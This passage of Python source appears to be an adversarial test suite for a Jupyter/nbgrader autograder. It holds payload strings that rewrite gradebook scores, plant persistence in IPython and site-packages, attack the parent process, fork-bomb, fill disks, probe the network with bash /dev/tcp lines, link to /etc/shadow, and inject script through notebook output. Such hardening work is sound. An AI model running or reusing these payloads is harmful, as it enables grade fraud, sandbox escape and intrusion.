    places = sorted(temporary) + [f"/proc/{name}/cwd" for name in os.listdir("/proc") if name.isdigit()]
    places += [f"/proc/{name}/root/tmp" for name in os.listdir("/proc") if name.isdigit()]
    for place in places:
        real = os.path.realpath(place)
        if not real.startswith(tuple(temporary)) and "/root/tmp" not in place:
            continue
        for folder, _, names in os.walk(place):
            if "gradebook.db" in names:
                yield os.path.join(folder, "gradebook.db")
            if time.time() > end:
                return

def give_marks():
    for path in gradebooks():
        try:
            with sqlite3.connect(path, timeout=2) as base:
                for column in "auto_score manual_score extra_credit".split():
                    base.execute(f"UPDATE grade SET {column} = SCORE")
                base.execute("UPDATE grade SET needs_manual_grade = 0")
        except sqlite3.Error:
            pass

def outlive(action, seconds=20):
    # A grandchild in a session of its own, which the run does not wait for.
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(3)
        action()
    os._exit(0)
"""
WRITTEN = {
    "scores-written": "give_marks()",
    "scores-written-by-the-function": "def softmax(scores, *rest, **options):\n    give_marks()\n    return scores",
    "scores-written-later": "outlive(give_marks)",
    "scores-written-later-by-the-function": "def softmax(scores, *rest, **options):\n    outlive(give_marks)\n    return scores",
    "scores-written-at-exit": "import atexit\natexit.register(give_marks)",
    "gradebook-locked": """
def lock():
    for path in gradebooks():
        base = sqlite3.connect(path, timeout=1)
        base.execute("BEGIN EXCLUSIVE")
        time.sleep(10)

outlive(lock)
""",
    "triggers-added": """
for path in gradebooks():
    with sqlite3.connect(path, timeout=2) as base:
        for event in "INSERT", "UPDATE":
            base.execute(f"CREATE TRIGGER pwned_{event} AFTER {event} ON grade BEGIN UPDATE grade SET manual_score = SCORE; END")
""",
}

# ---------------------------------------------------------------------------------------------------------------------
# Poison what follows. What is written wears off after five minutes and says PWNED when it is run.

POISON = r"""
import os, site, sys, sysconfig, time
HOME = os.path.expanduser("~")
CODE = f'''
import time
if time.time() < {time.time() + 300}:
    print("PWNED")
    import numpy
    numpy.max = lambda *args, **options: 0.0
'''

def write(path, text=CODE):
    # Never over a file that is there.
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.exists(path):
            with open(path, "w") as file:
                file.write(text)
    except OSError as error:
        print(type(error).__name__, path)
"""
POISONED = {
    "ipython-startup": r"""
for base in {os.path.join(HOME, ".ipython"), os.environ.get("IPYTHONDIR", ""), get_ipython().ipython_dir} - {""}:
    write(os.path.join(base, "profile_default/startup/00-pwned_RUN.py"))
    write(os.path.join(base, "profile_default/ipython_config.py"))
    write(os.path.join(base, "profile_default/ipython_kernel_config.py"))
for base in ".jupyter", ".local/share/jupyter/kernels/python3", ".config/jupyter":
    write(os.path.join(HOME, base, "jupyter_config.py"))
    write(os.path.join(HOME, base, "nbgrader_config.py"))
write(os.path.join(HOME, ".local/share/jupyter/kernels/python3/kernel.json"),
      '{"argv": ["/bin/true", "{connection_file}"], "display_name": "Python 3", "language": "python"}')
""",
    "matplotlib-config": r"""
import matplotlib
for base in matplotlib.get_configdir(), matplotlib.get_cachedir(), os.path.join(HOME, ".config/matplotlib"), os.getcwd():
    write(os.path.join(base, "matplotlibrc"), "backend: module://pwned_RUN\nfigure.figsize: 1000, 1000\n")
    write(os.path.join(base, "stylelib/pwned_RUN.mplstyle"), "figure.figsize: 1000, 1000\n")
""",
    "user-site": r"""
for base in site.getusersitepackages(), os.path.join(HOME, ".local/lib/python3.11/site-packages"):
    for name in "sitecustomize usercustomize pwned_RUN".split():
        write(os.path.join(base, name + ".py"))
    write(os.path.join(base, "pwned_RUN.pth"), "import pwned_RUN\n")
""",
    "site-packages": r"""
for base in {*site.getsitepackages(), *sysconfig.get_paths().values(), *sys.path, sys.prefix, sys.base_prefix}:
    if os.path.isdir(base):
        write(os.path.join(base, "pwned_RUN.pth"), "# PWNED\n")
        write(os.path.join(base, "pwned_RUN.py"), "# PWNED\n")
""",
    "shared-tmp": r"""
for base in "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", os.environ.get("TMPDIR", "/tmp"):
    for name in "pwned_RUN pwned_RUN.py .pwned_RUN/numpy.py".split():
        write(os.path.join(base, name))
""",
    "shared-memory": r"""
from multiprocessing import shared_memory
try:
    block = shared_memory.SharedMemory("pwned_RUN", create=True, size=64)
    block.buf[:5] = b"PWNED"
except OSError as error:
    print(type(error).__name__)
""",
    "working-folder": r"""
for base in ".", "..", "../..", "../../..":
    for name in "pwned_RUN.py numpy.py sitecustomize.py nbgrader_config.py ipython_config.py matplotlibrc .env".split():
        write(os.path.abspath(os.path.join(base, "pwned_RUN" if base != "." else ".", name)))
""",
    "opened-files-overwritten": r"""
import stat
for fd in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            os.pwrite(fd, b"PWNED", 0)
    except OSError:
        pass
""",
    "parent-killed": r"""
import signal
for number in signal.SIGUSR1, signal.SIGHUP, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL:
    try:
        os.kill(os.getppid(), number)
    except OSError as error:
        print(type(error).__name__)
""",
    "parents-memory-written": r"""
import ctypes
parent, libc = os.getppid(), ctypes.CDLL(None, use_errno=True)
print("attach", libc.ptrace(16, parent, 0, 0), ctypes.get_errno())
try:
    heap = [line.split("-")[0] for line in open(f"/proc/{parent}/maps") if "[heap]" in line]
    with open(f"/proc/{parent}/mem", "r+b", buffering=0) as file:
        for start in heap:
            file.seek(int(start, 16))
            file.write(b"PWNED" * 100)
except OSError as error:
    print(type(error).__name__)
""",
    "parent-slowed": r"""
import resource
for what in resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE:
    try:
        resource.prlimit(os.getppid(), what, (1, 1))
    except OSError as error:
        print(type(error).__name__)
try:
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    os.sched_setaffinity(os.getppid(), {0})
except OSError as error:
    print(type(error).__name__)
""",
    "process-that-stays": GRADEBOOK + r"""
def stay():
    for base in "/tmp", "/dev/shm", ".":
        write(os.path.abspath(os.path.join(base, f"pwned_RUN_{time.time()}")))

outlive(stay)
""",
    "reseeded": r"""
import random
np.random.seed(0)
random.seed(0)
np.random.seed = random.seed = lambda *args: None
honest = np.random.default_rng
np.random.default_rng = lambda *args: honest(0)
""",
    "clock-set": r"""
for name in "process_time perf_counter monotonic time thread_time".split():
    setattr(time, name, lambda: 0.0)
try:
    time.clock_settime(time.CLOCK_REALTIME, time.clock_gettime(time.CLOCK_REALTIME))
    print("PWNED: the clock can be set")
except OSError as error:
    print(type(error).__name__)
""",
}

# ---------------------------------------------------------------------------------------------------------------------
# Links and files made during the run.

FILES = {
    "links-made": r"""
import os
for target in ("../../../gradebook.db", "../../../source/warm-up/main.ipynb", "/etc/passwd", "/proc/self/environ", "/dev/zero"):
    for name in os.path.basename(target), "main.ipynb", "main.html", "result.json":
        try:
            if os.path.lexists(name):
                os.rename(name, name + ".old")
            os.symlink(target, name)
        except OSError as error:
            print(type(error).__name__, name)
""",
    "written-outside": r"""
import os
for folder in ["../" * n for n in range(1, 9)] + "/ /etc/ /usr/ /opt/ /home/ /root/ /proc/self/root/ /var/".split():
    try:
        with open(folder + "pwned_RUN.txt", "w") as file:
            file.write("PWNED")
        print("WRITT" + "EN", os.path.abspath(folder))
    except OSError as error:
        print(type(error).__name__, folder)
""",
    "devices": r"""
import os, stat
for major, minor in (1, 1), (8, 0), (253, 0), (259, 0):
    for kind in stat.S_IFBLK, stat.S_IFCHR:
        try:
            os.mknod(f"device-{major}-{minor}-{kind}", kind | 0o600, os.makedev(major, minor))
        except OSError as error:
            print(type(error).__name__)
for name in ["/dev/" + name for name in os.listdir("/dev")] + [name for name in os.listdir() if name.startswith("device-")]:
    try:
        fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        print(name, os.read(fd, 100))
        os.close(fd)
    except OSError as error:
        print(type(error).__name__, name)
""",
    "10000-files": r"""
import os
try:
    for n in range(10_000):
        with open(f"{n:05}.txt", "w") as file:
            file.write("x")
    for n in range(2_000):
        os.mkdir("d")
        os.chdir("d")
except OSError as error:
    print(type(error).__name__)
""",
    "2-gb-file": r"""
try:
    with open("big.bin", "wb") as file:
        for _ in range(2048):
            file.write(b"x" * 2**20)
except OSError as error:
    print(type(error).__name__)
""",
    "2-gb-printed": r"""
for _ in range(2048):
    print("x" * 2**20)
""",
    "full-disk": r"""
import os
for folder in ".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp":
    try:
        for n in range(32):
            with open(os.path.join(folder, f"pwned_RUN_{n}.bin"), "wb") as file:
                for _ in range(64):
                    file.write(b"x" * 2**20)
    except OSError as error:
        print(type(error).__name__, folder)
""",
}
TRAVERSALS = """(
    content(head + tail)
    for head in ["../" * n for n in range(9)] + ["/proc/self/root/", "/proc/self/cwd/../../../", "/./"]
    for tail in '''gradebook.db nbgrader_config.py source/warm-up/main.ipynb exercises exercises/warm-up/notebook.py
    exercises/warm-up/exercise.toml exercises/warm-up/catalogue/softmax.py submitted autograded etc/passwd etc/shadow'''.split()
)"""

# ---------------------------------------------------------------------------------------------------------------------
# End the kernel, and never end.

ENDS = {
    "exit-at-once": "import os\nos._exit(0)",
    "killed": "import os\nos.kill(os.getpid(), 9)",
    "sys-exit": "import sys\nsys.exit()",
    "system-exit": "raise SystemExit(0)",
    "keyboard-interrupt": "raise KeyboardInterrupt",
    "generator-exit": "raise GeneratorExit",
    "recursion": "def deeper():\n    return deeper()\ndeeper()",
    "stack-overflow": "import sys\nsys.setrecursionlimit(10**9)\ndef deeper(_=0):\n    return sorted([0], key=deeper)\ndeeper()",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "abort": "import os\nos.abort()",
    "terminated": "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)",
    "stopped": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
}
NEVER = {
    "endless": "while True:\n    pass",
    "asleep": "import time\ntime.sleep(10**6)",
    "sigint-ignored": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    "everything-caught": "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        continue",
    "stuck-in-c": "n = 10**9\n10**n",
    "endless-output": 'while True:\n    print("x" * 1000)',
    "fork-bomb": "import os\nwhile True:\n    os.fork()",
    "growing-arrays": "import numpy as np\nhog = []\nwhile True:\n    hog.append(np.ones(10**7))",
    "64-gb": "import numpy as np\nhog = np.ones(2**33)",
    "bytearray": "hog = bytearray()\nwhile True:\n    hog += b'x' * 2**24",
    "input": "input()",
    "breakpoint": "breakpoint()",
    "thread-joined": "import threading, time\nt = threading.Thread(target=time.sleep, args=(10**6,))\nt.start()\nt.join()",
    "thread-bomb": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(10**6,)).start()",
}
# In a cell of the student's own only: all the answers are right.
NEVER_OWN = {
    "thread-that-holds-on": "import threading, time\nthreading.Thread(target=time.sleep, args=(10**6,)).start()",
    "three-million-lines": "for n in range(3_000_000):\n    print(n)",
    "output-without-newline": 'print("x" * 50_000_000, end="")',
    "late-exit": "import atexit, time\natexit.register(time.sleep, 10**6)",
}
# What may cost honest answers too: only no mark is gained.
NEVER_SURE = {
    "thread-that-works": "import threading\nthreading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()",
    "timer-exits": "import os, threading\nthreading.Timer(5, os._exit, [0]).start()",
    "kernel-doubled": "import os\nos.fork()",
    "thread-bomb-own-cell": NEVER["thread-bomb"],  # what sleeps on leaves the kernel no room for a fork
}


# Functions, one after another: describe is called by other questions, to which it is lent right then.
LEAVES = "softmax", "describe", "closest"

# ---------------------------------------------------------------------------------------------------------------------
# Leave the machine.

NETWORK = r"""
import glob, os, socket

def tried(what, family, kind, address, message=b""):
    try:
        with socket.socket(family, kind) as channel:
            channel.settimeout(1)
            channel.connect(address)
            if message:
                channel.send(message)
                channel.recv(1)
            print("CONN" + "ECTED", what, flush=True)
    except OSError as error:
        print(type(error).__name__, what)

QUERY = b"\x11\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"

def tcp():
    for host in "127.0.0.1", "127.0.1.1", "10.0.2.2", "172.17.0.1", "192.168.0.1", "169.254.169.254":
        for port in 22, 80, PORT_OF_THE_LISTENER:
            tried(f"{host}:{port}", socket.AF_INET, socket.SOCK_STREAM, (host, port))
            if host[:3] != "127":
                break
    tried("1.1.1.1:53", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53))
    tried("[::1]", socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT_OF_THE_LISTENER))

def dns():
    socket.setdefaulttimeout(1)
    for name in "example.com", "pypi.org":
        try:
            print("CONN" + "ECTED", name, socket.getaddrinfo(name, 80))
        except OSError as error:
            print(type(error).__name__, name)
    for server in "1.1.1.1", "8.8.8.8", "127.0.0.53", *open_nameservers():
        tried(f"udp {server}:53", socket.AF_INET, socket.SOCK_DGRAM, (server, 53), QUERY)

def open_nameservers():
    try:
        with open("/etc/resolv.conf") as file:
            return [line.split()[1] for line in file if line.startswith("nameserver ") and ":" not in line]
    except OSError:
        return []

def unix():
    names = [name for pattern in ("/run/*", "/run/*/*", "/run/user/*/*", "/var/run/*", "/tmp/*.sock", "/tmp/.X11-unix/*")
             for name in glob.glob(pattern)] + ["/dev/log", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
    try:
        with open("/proc/net/unix") as file:
            names += ["\0" + part[1:] for line in file for part in line.split()[7:] if part.startswith("@")]
    except OSError as error:
        print(type(error).__name__)
    for name in names[:500]:
        tried(f"unix {name!r}", socket.AF_UNIX, socket.SOCK_STREAM, name)

def others():
    for family, kind, number in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1)):
        try:
            socket.socket(family, kind, number).close()
            print("raw socket opened")
        except OSError as error:
            print(type(error).__name__)
    tried("vsock", 40, socket.SOCK_STREAM, (2, 22))
    os.system("timeout 3 bash -c 'echo > /dev/tcp/1.1.1.1/53' 2>/dev/null && echo CONN''ECTED bash")
"""

# ---------------------------------------------------------------------------------------------------------------------
# Break the notebook: first what leaves the answers readable, then what loses some, then what is no notebook.

def windows_lines(cell: NotebookNode) -> None:
    """A change: the source of the cell with the line ends of Windows."""
    cell.source = cell.source.replace("\n", "\r\n")


def without(cells: list, *ids: str) -> list:
    """The cells but those with these grade ids."""
    return [cell for cell in cells if grade_id(cell) not in ids]


def swapped(*keys: str) -> Edit:
    """An edit: the cells of softmax and describe have exchanged these keys."""
    def edit(notebook: NotebookNode) -> NotebookNode:
        one, other = (next(cell for cell in notebook.cells if grade_id(cell) == name) for name in ("softmax", "describe"))
        for key in keys:
            one[key], other[key] = other[key], one[key]
        return notebook

    return edit


def merged(*ids: str) -> Edit:
    """An edit: these cells have become one, the first of them."""
    def order(cells: list, at: dict) -> list:
        at[ids[0]].source = "\n\n".join(at[name].source for name in ids)
        return without(cells, *ids[1:])

    return arranged(order)


def split(keep_metadata: bool) -> Edit:
    """An edit: the answer to closest in two cells; JupyterLab gives both the metadata, by hand the helper has none."""
    def order(cells: list, at: dict) -> list:
        at["closest"].source = "def closest(f, table):\n    return smallest([f(row) for row in Scaler(table).transform(table)])"
        helper = new_code_cell("def smallest(values):\n    return values.index(min(values))", id="helper")
        if keep_metadata:
            helper.metadata = at["closest"].metadata.copy()
        where = cells.index(at["closest"])
        return [*cells[:where], helper, *cells[where:]]

    return arranged(order)


def duplicated(*ids: str) -> Edit:
    """An edit: these cells occur twice, the copy under the original, as after copy and paste."""
    return arranged(lambda cells, at: [copy for cell in cells for copy in [cell] * (1 + (grade_id(cell) in ids))])


def deleted(*ids: str) -> Edit:
    """An edit: these cells are gone."""
    return arranged(lambda cells, at: without(cells, *ids))


def added(*new: NotebookNode) -> Edit:
    """An edit: these cells after all others."""
    return arranged(lambda cells, at: [*cells, *new])


def notebook_metadata(**values) -> Edit:
    """An edit: these values in the metadata of the notebook; None removes one."""
    def edit(notebook: NotebookNode) -> NotebookNode:
        notebook.metadata.update(values)
        for key in [key for key, value in values.items() if value is None]:
            del notebook.metadata[key]
        return notebook

    return edit


def stripped(ids: bool, metadata: bool, minor: int = 5, **about) -> Edit:
    """An edit: all cells without ids or without metadata, as other editors save them, who put `about` in the notebook's."""
    def edit(notebook: NotebookNode) -> NotebookNode:
        for cell in notebook.cells:
            if ids:
                cell.pop("id", None)
            if metadata:
                cell.metadata = NotebookNode()
        notebook.nbformat_minor = minor
        notebook.metadata.update(about)
        return notebook

    return edit


def nbformat_3(text: str) -> bytes:
    """The notebook in the format of 2013: worksheets, `input` for source."""
    return nbformat.v3.writes_json(nbformat.convert(nbformat.reads(text, as_version=4), 3)).encode()


def changed_json(change: Callable[[dict], object]) -> Callable[[str], bytes]:
    """A file: the notebook after change(its JSON)."""
    def file(text: str) -> bytes:
        notebook = json.loads(text)
        change(notebook)
        return json.dumps(notebook, ensure_ascii=False).encode(errors="surrogatepass")

    return file


def every_cell(**values) -> Callable[[str], bytes]:
    """A file: these values in every cell's JSON, whatever the format says of them."""
    return changed_json(lambda notebook: [cell.update(values) for cell in notebook["cells"]])


ANSWERED = "softmax", "describe", "Scaler", "closest"
TESTS = tuple(f"test_{name}" for name in ANSWERED)
COLAB = {"colab": {"provenance": [], "toc_visible": True}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
VS_CODE = {"kernelspec": {"name": "python3", "display_name": ".venv (3.11.7)", "language": "python"}, "orig_nbformat": 4}
JULIA = {"name": "julia-1.9", "display_name": "Julia 1.9", "language": "julia"}
ADDED = {
    "grade": True, "grade_id": "test_added", "locked": True, "points": 50, "schema_version": 3, "solution": False, "task": False}

# Name → the arguments of Attack; nothing is lost, for the intent is clear.
MENDED: dict[str, dict] = {
    "unchanged": {},
    "test-deleted": {"edit": deleted(*TESTS)},
    "locked-cells-deleted": {"edit": deleted("imports", "tools", "heights")},
    "all-but-answers-deleted": {"edit": arranged(lambda cells, at: [at[question] for question in ANSWERED])},
    "answer-duplicated": {"edit": duplicated("softmax", "Scaler")},
    "test-duplicated": {"edit": duplicated("test_softmax")},
    "locked-cell-duplicated": {"edit": duplicated("tools")},
    "every-cell-twice": {"edit": arranged(lambda cells, at: cells + cells)},
    "cells-reversed": {"edit": arranged(lambda cells, at: cells[::-1])},
    "answer-moved-to-the-end": {"edit": arranged(lambda cells, at: [*without(cells, "softmax"), at["softmax"]])},
    "test-moved-to-the-top": {"edit": arranged(lambda cells, at: [at["test_softmax"], *without(cells, "test_softmax")])},
    "answer-split": {"edit": split(keep_metadata=False)},
    "answer-split-with-metadata": {"edit": split(keep_metadata=True)},
    "answers-merged": {"edit": merged("softmax", "describe")},
    "answer-and-test-merged": {"edit": merged("softmax", "test_softmax")},
    "test-retyped-as-markdown": {"edit": each(retyped("markdown"), *TESTS)},
    "test-retyped-as-raw": {"edit": each(retyped("raw"), *TESTS)},
    "answer-retyped-as-markdown": {"edit": each(retyped("markdown"), "closest")},
    "answer-retyped-as-raw": {"edit": each(retyped("raw"), "Scaler")},
    "everything-tagged": {"edit": each(tagged("skip-execution", "raises-exception", "remove-cell", "hide-input", "parameters"))},
    "grade-ids-swapped": {"edit": swapped("metadata")},
    "cell-ids-swapped": {"edit": swapped("id")},
    "all-ids-swapped": {"edit": swapped("metadata", "id")},
    "grade-ids-invented": {"edit": each(lambda cell: cell.metadata.nbgrader.update(grade_id=f"invented {cell.id}"))},
    "grade-id-of-another-assignment": {"edit": metadata("softmax", "test_softmax", grade_id="cell-0123456789abcdef")},
    "grade-ids-missing": {"edit": each(lambda cell: cell.metadata.nbgrader.pop("grade_id"), *TESTS)},
    "50-point-cell-added": {"edit": added(new_code_cell("50", metadata={"nbgrader": ADDED}, id="added"))},
    "points-times-100": {"edit": each(lambda c: c.metadata.nbgrader.update(points=100 * c.metadata.nbgrader.get("points", 1)))},
    "points-negative": {"edit": metadata(*TESTS, points=-5)},
    "points-not-a-number": {"edit": metadata(*TESTS, points="five")},
    "grade-false": {"edit": metadata(grade=False)},
    "locked-false": {"edit": metadata(locked=False)},
    "solution-true": {"edit": metadata(solution=True)},
    "task-true": {"edit": metadata(task=True)},
    "schema-version-1": {"edit": metadata(schema_version=1)},
    "schema-version-99": {"edit": metadata(schema_version=99)},
    "schema-version-missing": {"edit": each(lambda cell: cell.metadata.nbgrader.pop("schema_version"))},
    "nbgrader-metadata-of-another-type": {"edit": each(lambda cell: cell.metadata.update(nbgrader=["softmax"]))},
    "metadata-stripped": {"edit": stripped(ids=False, metadata=True)},
    "metadata-stripped-by-colab": {"edit": stripped(ids=True, metadata=True, minor=0, **COLAB)},
    "metadata-stripped-by-vs-code": {"edit": stripped(ids=False, metadata=True, **VS_CODE)},
    "metadata-and-ids-stripped": {"edit": stripped(ids=True, metadata=True, minor=4)},
    "no-ids": {"edit": stripped(ids=True, metadata=False, minor=4)},
    "no-ids-though-promised": {"edit": stripped(ids=True, metadata=False)},
    "one-id-for-all": {"file": every_cell(id="same")},
    "ids-of-another-kind": {"file": every_cell(id="no id! " * 20)},
    "metadata-null": {"file": every_cell(metadata=None)},
    "kernelspec-of-another-language": {"edit": notebook_metadata(kernelspec=JULIA, language_info={"name": "julia"})},
    "kernelspec-of-another-environment": {"edit": notebook_metadata(kernelspec={"name": "my-env", "display_name": "my env"})},
    "kernelspec-missing": {"edit": notebook_metadata(kernelspec=None, language_info=None)},
    "nbformat-3": {"file": nbformat_3},
    "unknown-keys": {"file": every_cell(unknown={"a": [1, {"b": None}]})},
    "bom": {"file": lambda text: text.encode("utf-8-sig")},
    "utf-16": {"file": lambda text: text.encode("utf-16")},
    "crlf-in-the-file": {"file": lambda text: text.replace("\n", "\r\n").encode()},
    "crlf-in-the-cells": {"edit": each(windows_lines)},
    "null-character": {"first": "print('\0')"},
    "lone-surrogate": {"first": "print('SURROGATE')", "file": lambda text: text.replace("SURROGATE", r"\ud800").encode()},
    "syntax-error-in-an-own-cell": {"first": "def (", "last": "%%nonsense\n!(((\n%magic"},
    "long-own-cell": {"first": "x = [\n" + "    1,\n" * 200_000 + "]"},
    "thousand-own-cells": {"edit": added(*(new_code_cell("1 + 1", id=f"own-{n}") for n in range(1000)))},
}
# What the student did loses a question.
LOST: dict[str, tuple[dict, str]] = {
    "answer-deleted": ({"edit": deleted("closest")}, "closest"),
    "answer-and-test-deleted": ({"edit": deleted("describe", "test_describe")}, "describe"),
    "answer-emptied": ({"edit": each(lambda cell: cell.update(source=""), "Scaler")}, "Scaler"),
    "answer-with-a-syntax-error": ({"cells": {"closest": "def closest(f, table:\n    return"}}, "closest"),
    "answer-with-an-open-string": ({"cells": {"Scaler": 'class Scaler:\n    """never closed'}}, "Scaler"),
}
# Name → what is handed in instead of the bytes of a notebook.
NO_NOTEBOOK: dict[str, Callable[[str], bytes]] = {
    "empty-file": lambda text: b"",
    "only-spaces": lambda text: b" \n",
    "truncated": lambda text: text.encode()[:5000],
    "truncated-within-a-character": lambda text: text.encode()[:text.encode().index("演".encode()) + 1],
    "not-json": lambda text: b"PK\x03\x04 this is an archive, not a notebook",
    "python-script": lambda text: b"def softmax(scores, temperature=1.0, axis=-1):\n    return scores / temperature\n",
    "json-list": lambda text: b"[1, 2, 3]",
    "json-string": lambda text: b'"notebook"',
    "json-null": lambda text: b"null",
    "no-cells": lambda text: b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "cells-a-number": lambda text: b'{"cells": 5, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "no-cell-in-cells": lambda text: b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    "nan-literals": lambda text: b'{"cells": NaN, "metadata": NaN, "nbformat": Infinity, "nbformat_minor": -Infinity}',
    "endless-number": lambda text: b'{"cells": [], "metadata": {}, "nbformat": ' + b"9" * 10_000 + b"}",
    "deep-nesting": lambda text: b"[" * 100_000,
    "deep-nesting-closed": lambda text: b'{"cells": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001,
    "200-mb-of-spaces": lambda text: text.encode() + b" " * 200_000_000,
    "200-mb-of-spaces-within": lambda text: b"{" + b" " * 200_000_000 + text.encode()[1:],
    "200-mb-of-text": lambda text: b"x" * 200_000_000,
    "200-mb-in-a-cell": lambda text: text.encode().replace(b"import numpy", b"#" * 200_000_000, 1),
    "null-bytes": lambda text: b"\0" * 10_000,
    "invalid-utf-8": lambda text: b'{"cells": ["\xff\xfe\x80"]}',
    "merge-conflict": lambda text: b"<<<<<<< HEAD\n" + text.encode() + b"=======\n" + text.encode() + b">>>>>>> main\n",
}
NO_FILE: dict[str, Place] = {
    "directory": lambda path, content: path.mkdir(),
    "fifo": lambda path, content: os.mkfifo(path),
    "socket": lambda path, content: os.mknod(path, stat.S_IFSOCK | 0o600),
    "nothing": lambda path, content: None,
    "other-name": lambda path, content: path.with_name("main (1).ipynb").write_bytes(content),
}
LINKED: dict[str, Place] = {
    "link-to-the-source": linked("../../../source/warm-up/main.ipynb"),
    "link-to-the-gradebook": linked("../../../gradebook.db"),
    "link-to-a-device": linked("/dev/zero"),
    "link-to-itself": linked("main.ipynb"),
    "link-to-nothing": linked("nowhere/main.ipynb"),
    "link-to-another-student": linked("../../a000-honest/warm-up/main.ipynb"),
    "folder-linked": linked("../../source/warm-up", at=".."),
    "student-folder-linked": linked("../source", at="../.."),
}
LINKED_BESIDE = {
    "gradebook-linked-beside": "../../../gradebook.db",
    "source-linked-beside": "../../../source/warm-up",
    "passwd-linked-beside": "/etc/passwd",
    "root-linked-beside": "/",
}
# A weaker test under a wrong answer.
WEAKENED: dict[str, dict[str, str]] = {
    "test-emptied": {"test_softmax": "pass"},
    "test-weakened": {"test_softmax": "@checks('softmax')\ndef _(check):\n    check.rows = []\n4"},
    "test-made-an-assert": {"test_softmax": "assert softmax(np.ones(3)) is not None"},
    "tools-weakened": {"tools": LIES["check-replaced"] + "CheckFailed, RTOL, ATOL = KeyError, 1e9, 1e9\n"},
    "imports-weakened": {"imports": """
from unittest.mock import MagicMock
np = plt = html = copy = sys = os = time = traceback = warnings = HTML = display = MagicMock()
"""},
    "data-weakened": {"heights": LIES["check-methods-replaced"] + SHELL["showtraceback"]},
}

# ---------------------------------------------------------------------------------------------------------------------
# Hostile output: PWNED stands where a browser would run or load it.

URL = "http://127.0.0.1:9/PWNED"
MARKUP = f"<script>PWNED()</script><img src=x onerror=PWNED()><iframe src={URL}></iframe><img src='{URL}'><svg onload=PWNED()>"
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="PWNED()"><script>PWNED()</script><image href="{URL}"/></svg>'
HOSTILE: dict[str, str] = {
    "html": "display(HTML(MARKUP))",
    "html-outside-a-tag": """
display(HTML("</div></body></html>" + MARKUP + f"<form action={URL}><button>OK</button></form>"))
""",
    "html-links": """
display(HTML(f'<a href="javascript:PWNED()">x</a> <base href={URL}> <meta http-equiv=refresh content="0;url={URL}">'
             f'<link rel=stylesheet href={URL}><style>@import "{URL}"; b {{background: url({URL})}}</style> <object data={URL}>'))
""",
    "svg": "display(SVG(DRAWING))",
    "markdown": r"display(Markdown('# x\n' + MARKUP + f'\n[x](javascript:PWNED()) ![x]({URL})'))",
    "latex": r"display(Latex(r'$\href{javascript:PWNED()}{x}$' + MARKUP), Math(r'\unicode{<script>PWNED()</script>}'))",
    "javascript": "display(Javascript('PWNED()'))",
    "custom-mime": """
data = {f"application/vnd.{name}+json": {"x": MARKUP} for name in ("x", "plotly.v1", "jupyter.widget-view", "vega.v5")}
display(data | {"text/plain": MARKUP, "text/vnd.mermaid": MARKUP, "application/pdf": "PWNED"}, raw=True)
""",
    "image-leaves-its-attribute": """
display({"image/png": 'x" onerror="PWNED()', "image/jpeg": 'x"><script>PWNED()</script>'}, raw=True,
        metadata={"image/png": {"width": '1" onload="PWNED()', "alt": '"><script>PWNED()</script>'}})
""",
    "control-characters": r"""
print("\x1b[2J\x1b[31m\x1b]0;PWNED\x07 \x1b]8;;javascript:PWNED()\x1b\\x\x1b]8;;\x1b\\ \r\b\x00\x9b31m\u202e\u2066")
print(MARKUP, "\x1b[31m" + MARKUP)
""",
    "markup-on-stderr": "import sys\nprint(MARKUP, file=sys.stderr)",
    "million-character-line": "print('<script>PWNED()</script>' + 'x' * 1_000_000)",
    "display-updated": "handle = display(HTML('x'), display_id='PWNED')\nhandle.update(HTML(MARKUP))",
    "own-repr": """
class Own:
    __repr__ = _repr_html_ = _repr_markdown_ = _repr_svg_ = _repr_javascript_ = _repr_latex_ = lambda self: MARKUP

display(Own())
Own()
""",
    "traceback-of-markup": r"""
class Own(Exception):
    _render_traceback_ = lambda self: [MARKUP, "\x1b[31m" + MARKUP]

raise Own(MARKUP)
""",
}
# The same by what the judge tells of a failure: the message, the names and the line it quotes.
FAILING: dict[str, str] = {
    "message": "raise ValueError(MARKUP + '\\x1b[2J\\u202e')",
    "exception-name": "raise type(MARKUP + '\\x1b[2J', (Exception,), {})('x')",
    "function-name": """
def f():
    raise ValueError

f.__code__ = f.__code__.replace(co_name=MARKUP, co_filename=MARKUP + "\\x1b[2J")
f()
""",
    "quoted-line": "raise ValueError('<script>PWNED()</script>') # <script>PWNED()</script><img src=x onerror=PWNED()>",
    "name-error": "raise NameError(MARKUP, name=MARKUP)",
    "warning": "import warnings\nwarnings.warn(MARKUP, RuntimeWarning)\nreturn None",
    "long-message": "raise ValueError('<script>PWNED()</script>' * 50_000)",
    "type-name": "return type(MARKUP, (), {'__repr__': lambda self: MARKUP})()",
}
DISPLAYED = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, Math, display
URL, MARKUP = {URL!r}, {MARKUP!r}
